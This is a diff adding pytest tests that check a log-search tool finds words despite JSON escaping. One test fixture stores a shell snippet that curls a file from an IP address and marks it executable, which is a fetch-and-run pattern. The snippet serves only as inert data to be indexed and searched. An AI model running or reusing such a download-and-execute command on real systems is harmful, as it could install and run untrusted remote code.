@@ -279,6 +279,40 @@ def test_an_event_has_its_fields_and_lists_are_lists(searched: Searched) -> None
     assert {name for name, value in event.items() if not isinstance(value, str)} <= {"account_ids"}
 
 
+HIDDEN: Mapping[str, bytes] = {
+    "script": rb'{"eventID":"script","x":"#!/bin/bash\ncurl http://198.51.100.9/x\n\tchmod +x x"}',
+    "equals": rb'{"eventID":"equals","x":"owner\u003dgwendolyn\u0026team\u003dplatypus"}',
+    "accents": rb'{"eventID":"accents","x":"jos\u00e9-m\u00fcller","\u006b\u0065y":"C:\\n\u0065w"}',
+}
+
+
+@pytest.mark.parametrize(
+    ("name", "words"),
+    [
+        ("script", ["bash", "curl", "chmod", "bash curl", "curl script"]),
+        ("equals", ["owner", "gwendolyn", "platypus", "gwendolyn team"]),
+        ("accents", ["josé", "müller", "key", "new", "josé accents"]),
+    ],
+)
+def test_words_are_found_however_json_escapes_them(
+    searched_hidden: Searched, name: str, words: list[str]
+) -> None:
+    for word in words:
+        answer = searched_hidden.domain.search(Query(word, Syntax.SIMPLE, highlight=True))
+        assert [event["id"] for event in answer.events] == [name], word
+        assert answer.events[0]["raw"].encode() == HIDDEN[name]
+        assert answer.events[0].keys() == {"id", "event_id", "log_file", "outcome", "raw"}
+    assert searched_hidden.domain.search(Query(phrases=("bash curl http",))).found == 1
+
+
+@pytest.fixture(scope="module")
+def searched_hidden(make_searched: MakeSearched) -> Searched:
+    """A domain with `HIDDEN`."""
+    searched = make_searched("trailsearch-hidden")
+    searched.store(HIDDEN.values())
+    return searched
+
+
 def test_the_newest_events_come_first_and_those_without_a_time_last(searched: Searched) -> None:
     assert [event["id"] for event in searched.domain.search(Query()).events] == ["c", "b", "a", "d"]
 
